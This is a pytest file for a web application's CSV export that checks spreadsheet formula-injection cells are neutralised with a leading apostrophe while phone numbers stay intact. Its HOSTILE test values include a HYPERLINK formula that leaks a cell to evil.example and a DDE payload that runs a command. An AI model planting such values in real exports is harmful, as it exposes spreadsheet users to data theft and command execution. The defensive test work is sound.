"""Security issue 10, finding 10 (b, c): every CSV export goes through voxcast.csv_export, so a
cell a spreadsheet would run (= + - @ tab CR at the start) is quoted with a leading ', while
a plain number (an E.164 phone number, an amount) stays as it is. Before, the tenant log and
the rates export left most cells raw, and the survey CSV quoted every "+" phone number."""
from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest

from models import Call, Campaign, Contact, Tenant, TenantLog
from models.entities import Rate, SurveyAnswer
from voxcast import csv_export
from voxcast.billing import ledger, plans

from .conftest import ADMIN_PASSWORD

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = {"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")": True, "@SUM(1)": True,
           "-2+3": True, "+cmd|' /C calc'!A0": True, "\t=1+1": True, "\r=1+1": True}
PLAIN = ["+4930123456", "-0.0100", "42", "Hello", "", "a=b"]


def rows_of(body: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body)))


def cells_of(body: str) -> set[str]:
    return {c for row in rows_of(body) for c in row}


def assert_safe(body: str, plain=("+4930123456",)):
    cells = cells_of(body)
    for value in HOSTILE:
        assert value not in cells, f"{value!r} left raw"
        assert "'" + value in cells, f"{value!r} not quoted"
    for value in plain:
        assert value in cells, f"{value!r} changed"


@pytest.mark.parametrize("value", list(HOSTILE))
def test_hostile_cells_are_quoted(value):
    assert csv_export.cell(value) == "'" + value
    assert csv_export.uncell(csv_export.cell(value)) == value


@pytest.mark.parametrize("value", PLAIN)
def test_numbers_and_plain_text_stay(value):
    assert csv_export.cell(value) == value and csv_export.uncell(value) == value


def test_non_text_values_pass(db):
    assert csv_export.cell(7) == 7 and csv_export.cell(None) is None


def _hostile_log(tenant_id):
    values = list(HOSTILE)
    TenantLog.create(tenant=tenant_id, username=values[0], action=values[1],
                     object_type=values[2], object_id=values[3], detail=values[4], ip=values[5])
    TenantLog.create(tenant=tenant_id, username="ok", action="x", detail="+4930123456")


def test_tenant_log_csv(auth, app):
    master = Tenant.get(Tenant.slug == "master")
    _hostile_log(master.id)
    auth.login()
    resp = auth.client.get("/log?format=csv")
    assert resp.mimetype == "text/csv"
    assert_safe(resp.get_data(as_text=True))


def test_admin_log_csv(auth, app):
    _hostile_log(Tenant.get(Tenant.slug == "master").id)
    auth.login("admin", ADMIN_PASSWORD)
    assert_safe(auth.client.get("/admin/log?format=csv").get_data(as_text=True))


def test_survey_csv(auth, app, make_group):
    master = Tenant.get(Tenant.slug == "master")
    group = make_group(master, phones=["+4930123456"])
    campaign = Campaign.create(tenant=master, name="S", type="voice_survey", group=group,
                               flow=json.dumps({"questions": [{"key": "q1", "text": "Q",
                                                               "digits": "12"}]}))
    contact = Contact.get(Contact.group == group)
    values = list(HOSTILE)
    Contact.update(first_name=values[0], last_name=values[1]).where(
        Contact.id == contact.id).execute()
    for question in values[2:]:
        SurveyAnswer.create(tenant=master, campaign=campaign, contact=contact,
                            question=question, digit="1")
    auth.login()
    body = auth.client.get(f"/campaigns/{campaign.id}/survey.csv").get_data(as_text=True)
    assert_safe(body)
    assert rows_of(body)[1][0] == "+4930123456"  # the phone number is not mangled


def test_rates_csv_quotes_and_round_trips(auth, app):
    plan = plans.create_plan(plans.PlanInput(name="Retail"))
    for i, description in enumerate(HOSTILE):  # as stored (a form strips tabs; old rows)
        Rate.create(plan=plan, prefix=f"4930{i}", description=description, per_minute="0.0100")
    auth.login("admin", ADMIN_PASSWORD)
    body = auth.client.get(f"/admin/billing/plans/{plan.id}/rates.csv").get_data(as_text=True)
    assert_safe(body, plain=("0.01",))
    # The file comes back unchanged as an import: the quotes are ours and are taken off.
    from voxcast.billing import rate_import
    parsed = rate_import.parse(body.encode())
    assert not parsed.errors
    assert {r["description"] for r in parsed.rows} == {d.strip() for d in HOSTILE}


def test_charges_csv_tenant_and_admin(auth, app, make_tenant):
    values = list(HOSTILE)
    tenant, user = make_tenant(values[0], role="tenant", username="payer")
    campaign = Campaign.create(tenant=tenant, name=values[1])
    call = Call.create(tenant=tenant, campaign=campaign, number="+4930123456", channel_id="c1",
                       billsec=30)
    ledger.charge(tenant.id, "0.25", "call", call_id=call.id, reference=values[2])
    ledger.charge(tenant.id, "0.10", "adjustment", reference=values[3])
    auth.login("payer", "pw-payer")
    body = auth.client.get("/billing/charges.csv").get_data(as_text=True)
    assert "'" + values[0] in cells_of(body) and "'" + values[1] in cells_of(body)
    assert "'" + values[2] in cells_of(body) and "+4930123456" in cells_of(body)
    auth.logout()
    auth.login("admin", ADMIN_PASSWORD)
    body = auth.client.get(f"/admin/billing/charges.csv?tenant={tenant.id}").get_data(as_text=True)
    assert "'" + values[0] in cells_of(body) and values[0] not in cells_of(body)


def test_every_csv_export_uses_the_helper():
    """A new export written with csv.writer directly would bypass the quoting."""
    offenders = []
    for path in [*ROOT.glob("voxcast/**/*.py"), *ROOT.glob("webui/**/*.py")]:
        if path.name == "csv_export.py":
            continue
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text()):
            offenders.append(str(path.relative_to(ROOT)))
    assert not offenders, offenders
